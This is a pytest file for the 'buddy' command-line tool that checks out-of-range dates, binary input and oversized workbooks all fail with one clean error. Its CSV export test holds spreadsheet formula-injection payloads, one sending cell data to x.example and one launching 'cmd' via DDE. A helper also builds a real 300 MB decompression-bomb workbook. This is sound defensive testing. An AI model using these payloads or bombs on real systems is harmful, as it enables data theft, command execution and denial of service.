"""Bad input to the ``buddy`` command: one clear line and exit code 2, never a traceback.

Every case runs the real command in a subprocess (``sys.executable -m cli.main``) on a real
SQLite log, the way an operator would hit it; the CSV export is read back as a spreadsheet
would read it, and the workbook bomb is a real zip.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from review_fixtures import seed_log

from core.dataset.formats import load_dataset
from core.dataset.records import Dataset
from core.dataset.tabular import MAX_XLSX_EXPANDED, read_xlsx
from core.errors import DataFormatError
from core.review.csv_safe import FORMULA_STARTS
from core.storage.db import upgrade_schema
from training.linear import train_linear

REPO = Path(__file__).resolve().parents[2]


def buddy(tmp_path: Path, *args: str, stdin: bytes | None = None,
          **env: str) -> subprocess.CompletedProcess[bytes]:
    full = {k: v for k, v in os.environ.items() if not k.startswith(("BUDDY_", "DATABASE_"))}
    full.update(BUDDY_VAR_DIR=str(tmp_path / "var"), PYTHONPATH=str(REPO), COLUMNS="160", **env)
    return subprocess.run([sys.executable, "-m", "cli.main", *args], cwd=tmp_path, env=full,
                          input=stdin, capture_output=True, timeout=300)


def one_clear_line(done: subprocess.CompletedProcess[bytes]) -> str:
    """The error output is one line, in UTF-8, and there is no traceback."""
    err = done.stderr.decode("utf-8")
    assert done.returncode == 2, (done.returncode, err)
    assert "Traceback" not in err and "Error" not in err.split(":")[0][:0]
    lines = [line for line in err.splitlines() if not line[:4].isdigit()]  # log lines aside
    assert len(lines) == 1, err
    assert lines[0].startswith("오류 / error: ")
    return lines[0]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    db = tmp_path / "var" / "buddy.db"
    url = f"sqlite+aiosqlite:///{db}"
    upgrade_schema(url)
    asyncio.run(seed_log(url))
    return db


@pytest.mark.parametrize("args", [
    ("--since", "99999999999d"), ("--since", "999999d"), ("--until", "9999-12-31"),
    ("--since", "0001-01-01"), ("--since", "9" * 5000 + "d"),
])
def test_logs_list_with_an_impossible_time(tmp_path: Path, log: Path,
                                           args: tuple[str, str]) -> None:
    line = one_clear_line(buddy(tmp_path, "logs", "list", *args))
    assert "out of range" in line and "1970-01-01" in line


@pytest.mark.parametrize("args", [("--page", "99999999999999999999"),
                                  ("--limit", "99999999999999999999")])
def test_logs_list_with_an_impossible_page(tmp_path: Path, log: Path,
                                           args: tuple[str, str]) -> None:
    done = buddy(tmp_path, "logs", "list", *args)
    assert done.returncode == 2 and b"Traceback" not in done.stderr
    assert args[0].encode() in done.stderr


def test_csv_export_neutralises_formulas(tmp_path: Path, log: Path) -> None:
    risky = ['=HYPERLINK("http://x.example/?"&A1,"보기")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
    with sqlite3.connect(log) as con:
        ids = [i for (i,) in con.execute("SELECT id FROM messages ORDER BY id LIMIT 6")]
        for mid, text in zip(ids, risky, strict=True):
            con.execute("UPDATE messages SET text = ? WHERE id = ?", (text, mid))
        con.execute("UPDATE messages SET category = '=1+2' WHERE id = ?", (ids[0],))
    out = tmp_path / "log.csv"
    done = buddy(tmp_path, "logs", "export", "--format", "csv", "--out", str(out))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    by_id = {r["message_id"]: r for r in rows}
    for mid, text in zip(ids, risky, strict=True):
        assert by_id[mid]["text"] == "'" + text  # shown as text, never evaluated
    assert by_id[ids[0]]["category"] == "'=1+2"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    jsonl = buddy(tmp_path, "logs", "export", "--format", "jsonl")  # data for programs: exact
    texts = {json.loads(line)["text"] for line in jsonl.stdout.decode().splitlines()}
    assert set(risky) <= texts


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("model")
    pairs = [(t, "증상/불면") for t in ("잠이 안 와요", "밤새 잠을 못 잤어요", "불면증이 심해요")]
    pairs += [(t, "감정/외로움") for t in ("너무 외로워요", "혼자인 것 같아요", "친구가 없어요")]
    train_linear(Dataset.from_pairs(pairs), folder)
    return folder


def test_ask_with_binary_stdin(tmp_path: Path, model_dir: Path) -> None:
    binary = b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8  # a JPEG, say
    done = buddy(tmp_path, "ask", "--json", "--model", str(model_dir),
                 stdin="잠이 안 와요\n".encode() + binary, SAFETY_LEARNED="false")
    line = one_clear_line(done)
    assert "line 2 of standard input is not UTF-8" in line
    out = done.stdout.decode("utf-8")  # valid UTF-8, one answer for the one good line
    (answer,) = [json.loads(x) for x in out.splitlines()]
    assert answer["text"] == "잠이 안 와요" and answer["category"] == "증상/불면"


def test_ask_with_an_undecodable_argument(tmp_path: Path, model_dir: Path) -> None:
    arg = os.fsdecode(b"\xff\xfe \xec\xa3\xbd")  # what a shell passes for broken bytes
    done = buddy(tmp_path, "ask", "--model", str(model_dir), arg, SAFETY_LEARNED="false")
    assert "argument 1 is not UTF-8" in one_clear_line(done)


def workbook_bomb(path: Path, expanded_mb: int) -> None:
    """A real .xlsx whose one sheet repeats a row until it unpacks to ``expanded_mb`` MB."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["구분", "유저", "챗봇"])
    small = path.with_suffix(".small.xlsx")
    wb.save(small)
    row = b'<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></is></c></row>'
    chunk = row * (2**20 // len(row))
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED,
                                                        compresslevel=9) as dst:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(item, src.read(item))
                continue
            with dst.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxml'
                            b'formats.org/spreadsheetml/2006/main"><sheetData>')
                for _ in range(expanded_mb):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    small.unlink()


def test_a_workbook_bomb_is_refused_without_unpacking(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    workbook_bomb(bomb, 300)
    assert bomb.stat().st_size < 2 * 2**20  # small on disk...
    tracemalloc.start()
    try:
        with pytest.raises(DataFormatError) as refused:
            load_dataset(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "would expand to 300 MB" in str(refused.value)
    assert f"{MAX_XLSX_EXPANDED // 2**20} MB" in str(refused.value)
    assert peak < 5 * 2**20  # ...and never read into memory
    done = buddy(tmp_path, "train", "--data", str(bomb), "--out", str(tmp_path / "m"))
    assert done.returncode != 0 and b"would expand to 300 MB" in done.stderr
    assert b"Traceback" not in done.stderr


def test_a_workbook_over_the_cell_limit_is_refused(tmp_path: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["구분", "유저", "챗봇"])
    for n in range(5):
        wb.active.append(["감정/불안", f"불안해요 {n}", "괜찮아요"])
    wb.save(tmp_path / "w.xlsx")
    assert len(read_xlsx(tmp_path / "w.xlsx", max_cells=18).examples) == 5
    with pytest.raises(DataFormatError, match="over 17 cells"):
        read_xlsx(tmp_path / "w.xlsx", max_cells=17)
